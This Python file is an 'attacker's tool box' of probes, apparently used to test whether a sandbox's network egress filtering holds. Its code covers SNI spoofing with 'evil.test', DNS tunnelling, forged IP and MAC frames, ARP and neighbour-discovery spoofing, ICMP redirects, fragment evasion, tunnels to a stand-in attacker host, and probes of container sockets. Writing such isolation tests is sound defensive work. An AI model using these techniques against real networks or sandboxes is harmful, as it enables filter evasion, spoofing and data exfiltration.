# SPDX-License-Identifier: Apache-2.0
"""An attacker's tool box: python3 gadgets.py VERB ARGS... Run inside a sandbox as root, or with full privileges in the
sandbox's network namespace (what the kernel of a VM guest could send). Standard library only.

A verb ends within a few seconds, whatever happens to its packets, and prints `tried` once they were handed to the
kernel: a probe that never tried proves nothing. It says nothing about success: the attacker's packet log does.
"""

import contextlib
import ipaddress
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import time

SHORT = 0.4


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


# --- ordinary sockets ----------------------------------------------------------------------------------------------

def tcp(address, port, data="x", bind=""):
    """Connects and sends; the answer is of no interest."""
    with socket.socket(family(address), socket.SOCK_STREAM) as connection:
        connection.settimeout(SHORT)
        with contextlib.suppress(OSError):
            if bind:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                connection.bind(("", int(bind)))
            connection.connect((address, int(port)))
            connection.sendall(bytes.fromhex(data[4:]) if data.startswith("hex:") else data.encode())
            connection.recv(100)
    print("tried")


def fastopen(address, port):
    with socket.socket(family(address), socket.SOCK_STREAM) as connection:
        connection.settimeout(SHORT)
        with contextlib.suppress(OSError):
            connection.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (address, int(port)))
            connection.recv(100)
    print("tried")


def udp(address, port, data="x", count=3, bind=""):
    for _ in range(int(count)):
        with socket.socket(family(address), socket.SOCK_DGRAM) as datagrams:
            datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            with contextlib.suppress(OSError):
                if bind:
                    datagrams.bind(("", int(bind)))
                datagrams.sendto(bytes.fromhex(data[4:]) if data.startswith("hex:") else data.encode(), (address, int(port)))
    print("tried")


def options(address, port):
    """Socket options that a router might mistake for its own marks."""
    for level, option, value in ((socket.SOL_SOCKET, 36, 1), (socket.SOL_SOCKET, 36, 0x5A11), (socket.SOL_IP, 19, 1),
                                 (socket.SOL_IP, 15, 1), (socket.SOL_SOCKET, 5, 1)):  # SO_MARK, IP_TRANSPARENT, IP_FREEBIND, SO_DONTROUTE
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(family(address), kind) as connection:
                connection.settimeout(SHORT)
                with contextlib.suppress(OSError):
                    connection.setsockopt(level, option, value)
                with contextlib.suppress(OSError):
                    connection.connect((address, int(port)))
                    connection.send(b"x")
    print("tried")


def ping(address, size=56):
    subprocess.run(["ping", "-c", "2", "-i", "0.2", "-W", "1", "-s", str(size), address], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("tried")


def protocol(address, *numbers):
    """Raw IP protocols, payload at will."""
    for number in numbers:
        with contextlib.suppress(OSError), socket.socket(family(address), socket.SOCK_RAW, int(number)) as raw:
            for _ in range(2):
                with contextlib.suppress(OSError):
                    raw.sendto(b"\0" * 40, (address, 0))
    print("tried")


def seqpacket(address):
    """SCTP and UDP-Lite sockets, where the kernel has them."""
    for kind, number in ((socket.SOCK_SEQPACKET, 132), (socket.SOCK_STREAM, 132), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262)):
        with contextlib.suppress(OSError), socket.socket(family(address), kind, number) as connection:
            connection.settimeout(SHORT)
            connection.connect((address, 443))
            connection.send(b"x")
    print("tried")


def scan(address, first, last):
    """Every port of an address; open ones are printed."""
    for port in range(int(first), int(last) + 1):
        with socket.socket(family(address), socket.SOCK_STREAM) as connection:
            connection.settimeout(SHORT)
            with contextlib.suppress(OSError):
                connection.connect((address, port))
                connection.sendall(b"x")
                if connection.recv(10):
                    print("open", port)
    print("tried")


# --- TLS -----------------------------------------------------------------------------------------------------------

def tls(address, port, name):
    """A handshake with a real client; "-" stands for no name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(OSError, ssl.SSLError, ValueError):
        with socket.create_connection((address, int(port)), 2) as connection:
            with context.wrap_socket(connection, server_hostname=None if name == "-" else name) as secure:
                secure.sendall(b"GET / HTTP/1.0\r\n\r\n")
                secure.recv(100)
    print("tried")


def hello_bytes(names, records=1, extra=b"", version=0x0303, name_type=0):
    """A ClientHello by hand. `names` is a list of server_name extensions, each a list of names."""
    def extension(kind, body):
        return struct.pack("!HH", kind, len(body)) + body
    server_names = b""
    for entries in names:
        each = b"".join(bytes([name_type]) + struct.pack("!H", len(n)) + n for n in entries)
        server_names += extension(0, struct.pack("!H", len(each)) + each)
    body = (server_names + extension(10, bytes.fromhex("0004001d0017")) + extension(13, bytes.fromhex("000604030804 0401".replace(" ", "")))
            + extension(43, bytes.fromhex("020304")) + extension(51, struct.pack("!HHH", 36, 29, 32) + bytes(range(32))) + extra)
    hello = (struct.pack("!H", version) + bytes(32) + b"\x20" + bytes(32) + bytes.fromhex("00041301c02b0100")
             + struct.pack("!H", len(body)) + body)
    message = b"\x01" + struct.pack("!I", len(hello))[1:] + hello
    size = -(-len(message) // records)
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(message[at:at + size])) + message[at:at + size]
                    for at in range(0, len(message), size))


ODD_HELLOS = {
    "two-entries": lambda: hello_bytes([[b"allowed.example", b"evil.test"]]),
    "two-entries-reversed": lambda: hello_bytes([[b"evil.test", b"allowed.example"]]),
    "two-extensions": lambda: hello_bytes([[b"allowed.example"], [b"evil.test"]]),
    "nul": lambda: hello_bytes([[b"evil.test\0.allowed.example"]]),
    "nul-after": lambda: hello_bytes([[b"allowed.example\0.evil.test"]]),
    "trailing-dot": lambda: hello_bytes([[b"evil.test."]]),
    "dots": lambda: hello_bytes([[b"allowed.example..evil.test"]]),
    "empty-list": lambda: hello_bytes([[]]),
    "empty-name": lambda: hello_bytes([[b""]]),
    "long": lambda: hello_bytes([[b"a" * 300 + b".allowed.example"]]),
    "address": lambda: hello_bytes([[b"198.18.66.6"]]),
    "other-type": lambda: hello_bytes([[b"allowed.example"]], name_type=7),
    "space": lambda: hello_bytes([[b"evil.test allowed.example"]]),
    "slash": lambda: hello_bytes([[b"evil.test/.allowed.example"]]),
    "upper": lambda: hello_bytes([[b"EVIL.TEST"]]),
    "utf8": lambda: hello_bytes([["\u0435vil.allowed.example".encode()]]),
    "many-records": lambda: hello_bytes([[b"evil.test"]], records=40),
    "second-hello": lambda: hello_bytes([[b"allowed.example"]])[:-1] + hello_bytes([[b"evil.test"]]),
    "record-overrun": lambda: b"\x16\x03\x01\xff\xff" + hello_bytes([[b"allowed.example"]])[5:],
    "sslv2": lambda: bytes.fromhex("802e0103010015000000100100800300800700c006004002008004008000") + bytes(16),
    "alert-first": lambda: b"\x15\x03\x01\x00\x02\x01\x00" + hello_bytes([[b"evil.test"]]),
    "ccs-first": lambda: b"\x14\x03\x01\x00\x01\x01" + hello_bytes([[b"evil.test"]]),
    "http-then-hello": lambda: b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n" + hello_bytes([[b"allowed.example"]]),
    "proxy-header": lambda: b"PROXY TCP4 1.2.3.4 198.18.66.6 1 443\r\n" + hello_bytes([[b"allowed.example"]]),
    "socks": lambda: b"\x05\x01\x00\x05\x01\x00\x01\xc6\x12\x42\x06\x01\xbb",
    "ech-outer-denied": lambda: hello_bytes([[b"evil.test"]], extra=struct.pack("!HH", 0xFE0D, 4) + b"\0\0\1\0"),
}


def odd(address, port, which):
    """One of ODD_HELLOS, whole, then byte by byte."""
    wire = ODD_HELLOS[which]()
    for slow in (False, True):
        with contextlib.suppress(OSError), socket.create_connection((address, int(port)), 2) as connection:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in ([wire[n:n + 1] for n in range(len(wire))] if slow else [wire]):
                connection.sendall(piece)
            connection.settimeout(1)
            connection.recv(100)
    print("tried")


def postgres(address, which, name="evil.test"):
    starts = {"ssl": bytes.fromhex("0000000804d2162f"), "gss": bytes.fromhex("0000000804d21630"),
              "startup": b"\0\0\0\x21\0\3\0\0user\0postgres\0database\0x\0\0"[:33], "cancel": bytes.fromhex("0000001004d2162e") + bytes(8),
              "gss-ssl": bytes.fromhex("0000000804d216300000000804d2162f"),
              "early": bytes.fromhex("0000000804d2162f") + hello_bytes([[name.encode()]]),
              "startup-after-ssl": bytes.fromhex("0000000804d2162f") + b"\0\0\0\x08\0\3\0\0"}
    with contextlib.suppress(OSError), socket.create_connection((address, 5432), 2) as connection:
        connection.settimeout(1)
        connection.sendall(starts[which])
        connection.recv(1)
        connection.sendall(hello_bytes([[name.encode()]]))
        connection.recv(100)
    print("tried")


# --- DNS -----------------------------------------------------------------------------------------------------------

def labels(name):
    return b"".join(bytes([len(l)]) + l for l in name.encode("latin-1").split(b".")) + b"\0"


def dns_bytes(question, rdtype=1, flags=0x0100, questions=1, extra=b"", additional=0):
    return struct.pack("!HHHHHH", random.randrange(65536), flags, questions, 0, 0, additional) + question + struct.pack("!HH", rdtype, 1) + extra


ODD_QUERIES = {
    "plain": lambda n: dns_bytes(labels(n)),
    "txt": lambda n: dns_bytes(labels(n), 16),
    "any": lambda n: dns_bytes(labels(n), 255),
    "axfr": lambda n: dns_bytes(labels(n), 252),
    "https": lambda n: dns_bytes(labels(n), 65),
    "null": lambda n: dns_bytes(labels(n), 10),
    "unknown-type": lambda n: dns_bytes(labels(n), 65399),
    "upper": lambda n: dns_bytes(labels(n.upper())),
    "no-recursion": lambda n: dns_bytes(labels(n), flags=0),
    "two-questions": lambda n: dns_bytes(labels("allowed.example"), questions=2, extra=labels(n) + b"\0\1\0\1"),
    "second-after-end": lambda n: dns_bytes(labels("allowed.example"), extra=labels(n) + b"\0\1\0\1"),
    "dotted-label": lambda n: dns_bytes(bytes([len(n)]) + n.encode() + labels("allowed.example")),
    "nul-label": lambda n: dns_bytes(b"\x04ab\0c" + labels(n)),
    "pointer": lambda n: dns_bytes(b"\1a\xc0\x0c"),
    "pointer-forward": lambda n: dns_bytes(b"\xc0\x12", extra=labels(n)),
    "update": lambda n: dns_bytes(labels(n), 6, flags=0x2800),
    "notify": lambda n: dns_bytes(labels(n), 6, flags=0x2000),
    "response-bit": lambda n: dns_bytes(labels(n), flags=0x8180),
    "edns-cookie": lambda n: dns_bytes(labels(n), extra=b"\0\0\x29\xff\xff\0\0\0\0\0\x0c\0\x0a\0\x08leakleak", additional=1),
    "edns-subnet-allowed": lambda n: dns_bytes(labels("allowed.example"), extra=b"\0\0\x29\xff\xff\0\0\0\0\0\x0b\0\x08\0\x07\0\1\x18\0\xc6\x12\x42", additional=1),
    "garbage": lambda n: n.encode() * 5,
    "empty": lambda n: b"",
    "chaos": lambda n: struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels(n) + b"\0\1\0\3",
}


def dns(address, which, name, transport="udp", port=53):
    wire = ODD_QUERIES[which](name)
    if transport == "udp":
        with socket.socket(family(address), socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(SHORT)
            with contextlib.suppress(OSError):
                datagrams.sendto(wire, (address, int(port)))
                datagrams.recv(4096)
    else:
        with contextlib.suppress(OSError), socket.create_connection((address, int(port)), 2) as connection:
            connection.settimeout(SHORT)
            framed = struct.pack("!H", len(wire)) + wire
            connection.sendall(framed * 3 if transport == "pipelined" else framed)
            connection.recv(4096)
    print("tried")


def tunnel(address, zone, transport="udp"):
    """Data in query names, as tunnelling programs send it."""
    for n in range(20):
        wire = dns_bytes(labels(f"{'%060x' % n}.{os.urandom(20).hex()}.{zone}"), random.choice((1, 16, 28, 10)))
        with contextlib.suppress(OSError):
            if transport == "udp":
                with socket.socket(family(address), socket.SOCK_DGRAM) as datagrams:
                    datagrams.settimeout(SHORT)
                    datagrams.sendto(wire, (address, 53))
                    datagrams.recv(4096)
            else:
                with socket.create_connection((address, 53), 2) as connection:
                    connection.settimeout(SHORT)
                    connection.sendall(struct.pack("!H", len(wire)) + wire)
                    connection.recv(4096)
    print("tried")


# --- packets by hand -----------------------------------------------------------------------------------------------

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return ipaddress.ip_address(address).packed


def pseudo(source, destination, number, length):
    if ":" in source:
        return packed(source) + packed(destination) + struct.pack("!IHBB", length, 0, 0, number)
    return packed(source) + packed(destination) + struct.pack("!BBH", 0, number, length)


def udp_segment(source, destination, sport, dport, data):
    head = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    total = checksum(pseudo(source, destination, 17, 8 + len(data)) + head + data)
    return head[:6] + struct.pack("!H", total or 0xFFFF) + data


def tcp_segment(source, destination, sport, dport, flags=2, data=b"", seq=1000, ack=0):
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0)
    total = checksum(pseudo(source, destination, 6, len(head) + len(data)) + head + data)
    return head[:16] + struct.pack("!H", total) + head[18:] + data


def icmp_echo(source, destination, data=b"leak" * 8):
    if ":" in source:
        message = struct.pack("!BBHHH", 128, 0, 0, 1, 1) + data
        return message[:2] + struct.pack("!H", checksum(pseudo(source, destination, 58, len(message)) + message)) + message[4:]
    message = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + data
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def ip_packet(source, destination, number, payload, options=b"", fragment=0, ident=77, ttl=64):
    if ":" in source:
        return struct.pack("!IHBB", 6 << 28, len(payload), number, ttl) + packed(source) + packed(destination) + payload
    head = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), ident, fragment, ttl, number, 0)
    head += packed(source) + packed(destination) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


class Link:
    """The sandbox's only link, by hand."""

    def __init__(self, device="eth0"):
        self.device = device
        self.mac = self._mac()
        shown = subprocess.run(["ip", "-o", "addr", "show", "dev", device, "scope", "global"], capture_output=True, text=True, check=True).stdout
        found = [line.split()[3].split("/")[0] for line in shown.splitlines()]
        self.ip4 = next(a for a in found if ":" not in a)
        self.ip6 = next(a for a in found if ":" in a)
        self.gateway4 = self._gateway("-4")
        self.gateway6 = self._gateway("-6")
        self.router_mac = self._neighbour()
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind((device, 0))

    def _mac(self):
        # Not from /sys, which shows another namespace's devices to a process that entered only this one's network.
        shown = subprocess.run(["ip", "-o", "link", "show", "dev", self.device], capture_output=True, text=True, check=True).stdout
        return bytes.fromhex(shown.split("link/ether ")[1].split()[0].replace(":", ""))

    def _gateway(self, option):
        shown = subprocess.run(["ip", option, "route", "show", "default"], capture_output=True, text=True, check=True).stdout
        return shown.split("via ")[1].split()[0]

    def _neighbour(self):
        for _ in range(20):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams, contextlib.suppress(OSError):
                datagrams.sendto(b"x", (self.gateway4, 9))
            shown = subprocess.run(["ip", "neigh", "show", self.gateway4], capture_output=True, text=True, check=True).stdout
            if "lladdr" in shown:
                return bytes.fromhex(shown.split("lladdr ")[1].split()[0].replace(":", ""))
            time.sleep(0.05)
        raise SystemExit("no neighbour: " + shown)

    def own(self, address):
        return self.ip6 if ":" in address else self.ip4

    def send(self, packet, ethertype=None, source=None, destination=None):
        kind = ethertype or (0x86DD if packet[0] >> 4 == 6 else 0x0800)
        frame = (destination or self.router_mac) + (source or self.mac) + struct.pack("!H", kind) + packet
        with contextlib.suppress(OSError):
            self.socket.send(frame)


def segments(source, destination, ports=(53, 80, 443, 9)):
    """A bit of everything to one destination."""
    for port in ports:
        yield 17, udp_segment(source, destination, 5000, port, b"leak")
        yield 6, tcp_segment(source, destination, 5000, port)
        yield 6, tcp_segment(source, destination, 5000, port, flags=0x10, data=b"leak", ack=1)
        yield 6, tcp_segment(source, destination, 5000, port, flags=0x12, ack=1)
    yield (58 if ":" in source else 1), icmp_echo(source, destination)


def inject(address, source="own"):
    """Frames from `source` to `address`: own address, or a forged one."""
    link = Link()
    source = link.own(address) if source == "own" else source
    for number, segment in segments(source, address):
        link.send(ip_packet(source, address, number, segment))
    print("tried")


def forged_mac(address):
    link = Link()
    for mac in (b"\x02\0\0\0\0\x01", b"\xff" * 6, link.router_mac, bytes(6)):
        for number, segment in segments(link.own(address), address):
            link.send(ip_packet(link.own(address), address, number, segment), source=mac)
    print("tried")


def broadcast_frames(address):
    link = Link()
    for mac in (b"\xff" * 6, b"\x01\0\x5e\0\0\1", b"\x33\x33\0\0\0\1", b"\x02\0\0\0\0\x09"):
        for number, segment in segments(link.own(address), address):
            link.send(ip_packet(link.own(address), address, number, segment), destination=mac)
    print("tried")


def fragments(address, which="udp"):
    """A datagram in pieces: ordinary, tiny (ports in the second piece), overlapping, out of order, last piece only."""
    link = Link()
    source = link.own(address)
    payload = (udp_segment(source, address, 5000, 443, b"leak" * 20) if which == "udp" else
               tcp_segment(source, address, 5000, 443) + b"\1" * 12 if which == "tcp" else icmp_echo(source, address))
    number = {"udp": 17, "tcp": 6}.get(which, 58 if ":" in address else 1)

    def piece(first, last, more, ident):
        if ":" in address:
            head = struct.pack("!BBHI", number, 0, first | more, ident)
            return ip_packet(source, address, 44, head + payload[first:last])
        return ip_packet(source, address, number, payload[first:last], fragment=(first // 8) | (more << 13), ident=ident)
    end = len(payload)
    for ident, plan in enumerate([
            [(0, 16, 1), (16, end, 0)], [(0, 8, 1), (8, 16, 1), (16, end, 0)], [(16, end, 0), (0, 16, 1)],
            [(0, 24, 1), (8, end, 0)], [(8, end, 0)], [(0, 8, 1)], [(0, end, 1)], [(0, end, 0)]], start=500):
        for first, last, more in plan:
            link.send(piece(first, last, more, ident))
    print("tried")


def extension_headers(address):
    """IPv6 extension headers before UDP, TCP and ICMPv6: hop-by-hop, destination options, routing, atomic fragment, chains."""
    link = Link()
    source = link.ip6
    hop = lambda following: bytes([following, 0, 1, 4, 0, 0, 0, 0])  # noqa: E731
    routing0 = lambda following, via: bytes([following, 2, 0, 1, 0, 0, 0, 0]) + packed(via)  # noqa: E731
    routing4 = lambda following, via: bytes([following, 2, 4, 1, 0, 0, 0, 0]) + packed(via)  # noqa: E731
    atomic = lambda following: struct.pack("!BBHI", following, 0, 0, 9)  # noqa: E731
    for number, segment in segments(source, address):
        link.send(ip_packet(source, address, 0, hop(number) + segment))
        link.send(ip_packet(source, address, 60, hop(number) + segment))
        link.send(ip_packet(source, address, 44, atomic(number) + segment))
        link.send(ip_packet(source, address, 0, hop(60) + hop(44) + atomic(number) + segment))
        link.send(ip_packet(source, link.gateway6, 43, routing0(number, address) + segment))
        link.send(ip_packet(source, link.gateway6, 43, routing4(number, address) + segment))
        link.send(ip_packet(source, "2001:db8::10", 43, routing0(number, address) + segment))
        link.send(ip_packet(source, address, 51, bytes([number, 4]) + bytes(22) + segment))  # authentication header
        link.send(ip_packet(source, address, 59, segment))  # no next header
    print("tried")


def ip_options(address):
    """IPv4 options: loose and strict source route through the gateway, record route, timestamp, router alert."""
    link = Link()
    source = link.ip4
    for chosen in (b"\x83\x07\x04" + packed(address) + b"\0", b"\x89\x07\x04" + packed(address) + b"\0",
                   b"\x07\x07\x04\0\0\0\0\0", b"\x44\x08\x05\0\0\0\0\0", b"\x94\x04\0\0", b"\x01\x01\x01\0"):
        for number, segment in segments(source, address):
            link.send(ip_packet(source, address, number, segment, options=chosen))
            link.send(ip_packet(source, link.gateway4, number, segment, options=chosen))
            link.send(ip_packet(source, "198.18.0.10", number, segment, options=chosen))
    print("tried")


def encapsulated(address):
    """A packet for the attacker inside a packet for the router, for an allowed host and for the attacker: IPIP, 6in4, GRE."""
    link = Link()
    for inner_to in (address,):
        inner = ip_packet(link.own(inner_to), inner_to, 17, udp_segment(link.own(inner_to), inner_to, 5000, 443, b"leak"))
        number = 41 if ":" in inner_to else 4
        for outer in (link.gateway4, link.gateway6, "198.18.0.10", "2001:db8::10", address):
            for protocol_number, head in ((number, b""), (47, b"\0\0" + struct.pack("!H", 0x86DD if ":" in inner_to else 0x0800)),
                                          (50, b"\0" * 8), (115, b"\0" * 4)):
                link.send(ip_packet(link.own(outer), outer, protocol_number, head + inner))
            for port, head in ((4789, b"\x08\0\0\0\0\0\1\0" + link.router_mac + link.mac + b"\x08\0"), (6081, bytes(8)), (3544, b""), (1701, b"")):
                link.send(ip_packet(link.own(outer), outer, 17, udp_segment(link.own(outer), outer, port, port, head + inner)))
    print("tried")


def vlan(address):
    link = Link()
    for number, segment in segments(link.own(address), address):
        packet = ip_packet(link.own(address), address, number, segment)
        kind = 0x86DD if ":" in address else 0x0800
        for tags in (struct.pack("!HH", 0, kind), struct.pack("!HH", 1, kind), struct.pack("!HHHH", 1, 0x8100, 1, kind)):
            link.send(tags + packet, ethertype=0x8100)
        link.send(struct.pack("!BBH", 0x11, 0, 1) + bytes(2) + struct.pack("!H", 0x0021) + packet, ethertype=0x8864)
        link.send(b"\0\0\x11\x40" + packet, ethertype=0x8847)
    print("tried")


def malformed(address):
    """Headers that lie: wrong version, wrong lengths, TTL of 0 and 1, bad checksums, reserved flags."""
    link = Link()
    source = link.own(address)
    for number, segment in segments(source, address):
        packet = ip_packet(source, address, number, segment)
        for at, value in ((0, 0x4F), (0, 0x41), (0, 0x65), (0, 0x55), (3, 0xFF), (3, 1), (6, 0x80), (8, 0), (8, 1), (10, 0xAA), (7, 0)):
            link.send(packet[:at] + bytes([value]) + packet[at + 1:], ethertype=0x86DD if ":" in address else 0x0800)
        link.send(packet, ethertype=0x0800 if ":" in address else 0x86DD)
        link.send(packet[:-3])
    print("tried")


def arp_tricks(address):
    """Claims the router's, the host's and the attacker's addresses, asks for others, then sends as each of them."""
    link = Link()
    for claimed in (link.gateway4, address, "10.209.0.5", "198.18.200.2", "198.18.0.10"):
        for operation in (1, 2):
            body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + link.mac + packed(claimed) + b"\xff" * 6 + packed(link.gateway4)
            link.send(body, ethertype=0x0806, destination=b"\xff" * 6)
            link.send(body, ethertype=0x0806)
        for number, segment in segments(claimed, address):
            link.send(ip_packet(claimed, address, number, segment))
    print("tried")


def nd_tricks(address):
    """Router advertisements, redirects, and neighbour advertisements for addresses of others; then packets as each."""
    link = Link()
    local = "fe80::" + "%x:%x:%x:%x" % tuple(struct.unpack("!4H", b"\x02\0\0\xff\xfe\0\0\x42"))

    def icmp6(source, destination, kind, body):
        message = struct.pack("!BBH", kind, 0, 0) + body
        message = message[:2] + struct.pack("!H", checksum(pseudo(source, destination, 58, len(message)) + message)) + message[4:]
        link.send(ip_packet(source, destination, 58, message, ttl=255), destination=b"\x33\x33\0\0\0\1" if destination.startswith("ff") else None)
    lladdr = b"\2\1" + link.mac
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 86400, 0) + packed("2001:db8:66::")
    for destination in ("ff02::1", link.gateway6):
        icmp6(local, destination, 134, struct.pack("!BBHII", 64, 0, 9000, 0, 0) + lladdr + prefix)
        for target in (link.gateway6, address, "2001:db8:200::2", "2001:db8::10"):
            icmp6(local, destination, 136, struct.pack("!I", 0xE0000000) + packed(target) + lladdr)
            icmp6(link.gateway6, destination, 137, bytes(4) + packed(local) + packed(target) + lladdr)
    for source in (local, "fe80::1", "2001:db8:66::99", "2001:db8:200::2", "::1", "::", "fd53:616c:6c79:ffff::2"):
        for number, segment in segments(source, address):
            link.send(ip_packet(source, address, number, segment))
    print("tried")


def icmp_redirects(address):
    """Tells the router that the attacker's host is the way to everywhere, and that its own packets were too big."""
    link = Link()
    inner = ip_packet(link.gateway4, link.ip4, 17, udp_segment(link.gateway4, link.ip4, 53, 5000, b"x"))
    for kind, code, rest in ((5, 1, packed(address)), (3, 4, struct.pack("!HH", 0, 68)), (3, 1, bytes(4)), (9, 0, struct.pack("!BBH", 1, 2, 1800) + packed(address) + bytes(4))):
        message = struct.pack("!BBH", kind, code, 0) + rest + inner
        message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
        for source in (link.ip4, address, link.gateway4):
            link.send(ip_packet(source, link.gateway4, 1, message))
    for number, segment in segments(link.ip4, address):
        link.send(ip_packet(link.ip4, address, number, segment))
    print("tried")


def related(address):
    """ICMP errors that quote flows, to be forwarded as `related` to somebody else."""
    link = Link()
    own = link.own(address)
    with contextlib.suppress(OSError), socket.create_connection((("2001:db8::10" if ":" in address else "198.18.0.10"), 443), 2):
        quoted = ip_packet(address, own, 6, tcp_segment(address, own, 443, 5000))
        if ":" in address:
            for kind in (1, 2, 3, 4):
                message = struct.pack("!BBHI", kind, 0, 0, 1280) + quoted
                message = message[:2] + struct.pack("!H", checksum(pseudo(own, address, 58, len(message)) + message)) + message[4:]
                link.send(ip_packet(own, address, 58, message))
        else:
            for kind in (3, 4, 11, 12):
                message = struct.pack("!BBHI", kind, 1, 0, 0) + quoted
                message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
                link.send(ip_packet(own, address, 1, message))
    print("tried")


def handshake_by_hand(address, port=443):
    """SYN by hand, then data on whatever sequence numbers the answer has: a flow the kernel inside knows nothing of."""
    link = Link()
    own = link.own(address)
    link.socket.close()
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sniff.bind((link.device, 3))
    sniff.settimeout(1)
    link.socket = sniff
    link.send(ip_packet(own, address, 6, tcp_segment(own, address, 6100, int(port))))
    ack = 1
    with contextlib.suppress(OSError):
        end = time.monotonic() + 1
        while time.monotonic() < end:
            frame = sniff.recv(2000)
            offset = 54 if ":" in address else 34
            if frame[offset:offset + 4] == struct.pack("!HH", int(port), 6100):
                ack = struct.unpack("!I", frame[offset + 4:offset + 8])[0] + 1
                break
    for data in (b"GET / HTTP/1.0\r\n\r\n", hello_bytes([[b"evil.test"]])):
        link.send(ip_packet(own, address, 6, tcp_segment(own, address, 6100, int(port), flags=0x18, data=data, seq=1001, ack=ack)))
    print("tried")


def change_address(address, new):
    """Gives eth0 another address and sends from it; what the kernel then puts on the wire is its own affair."""
    length = "64" if ":" in new else "30"
    option = ["nodad"] if ":" in new else []
    subprocess.run(["ip", "addr", "add", f"{new}/{length}", "dev", "eth0", *option], stderr=subprocess.DEVNULL)
    for kind, port in ((socket.SOCK_STREAM, 443), (socket.SOCK_DGRAM, 443), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53)):
        with socket.socket(family(address), kind) as connection, contextlib.suppress(OSError):
            connection.settimeout(SHORT)
            connection.bind((new, 0))
            connection.connect((address, port))
            connection.send(b"leak")
    print("tried")


def own_tunnel(address):
    """An address on a tunnel device of its own, with eth0 as the carrier, and a route to the attacker through it."""
    for kind in ("sit", "gre", "ipip", "vxlan"):
        extra = ["id", "7", "dstport", "4789"] if kind == "vxlan" else []
        local = Link().ip4
        subprocess.run(["ip", "link", "add", "t0", "type", kind, *extra, "local", local, "remote", "198.18.66.6"], stderr=subprocess.DEVNULL)
        subprocess.run(["ip", "addr", "add", "10.99.0.1/24", "dev", "t0"], stderr=subprocess.DEVNULL)
        subprocess.run(["ip", "link", "set", "t0", "up"], stderr=subprocess.DEVNULL)
        for port in (53, 443):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams, contextlib.suppress(OSError):
                datagrams.sendto(b"leak", ("10.99.0.2", port))
        subprocess.run(["ip", "link", "del", "t0"], stderr=subprocess.DEVNULL)
    print("tried")


def local_sockets():
    """Abstract and path unix sockets, netlink and vsock: whatever of the host might listen."""
    with contextlib.suppress(OSError), open("/proc/net/unix") as file:
        for line in file.read().splitlines()[1:]:
            name = line.split()[7] if len(line.split()) > 7 else ""
            if "sandboxd" in name or "sallyport" in name:
                print("open", name)
    for path in ("/run/sallyport/sandboxd.sock", "\0sandboxd", "\0sallyport", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/dbus/system_bus_socket", "/run/systemd/private"):
        with socket.socket(socket.AF_UNIX) as connection, contextlib.suppress(OSError):
            connection.connect(path)
            print("open", path)
    for cid in (0, 1, 2, 3):
        with contextlib.suppress(OSError), socket.socket(40, socket.SOCK_STREAM) as connection:
            connection.settimeout(SHORT)
            connection.connect((cid, 1024))
            print("open vsock", cid)
    print("tried")


VERBS = {function.__name__: function for function in (
    tcp, fastopen, udp, options, ping, protocol, seqpacket, scan, tls, odd, postgres, dns, tunnel, inject, forged_mac,
    broadcast_frames, fragments, extension_headers, ip_options, encapsulated, vlan, malformed, arp_tricks, nd_tricks,
    icmp_redirects, related, handshake_by_hand, change_address, own_tunnel, local_sockets)}

if __name__ == "__main__":
    VERBS[sys.argv[1]](*sys.argv[2:])
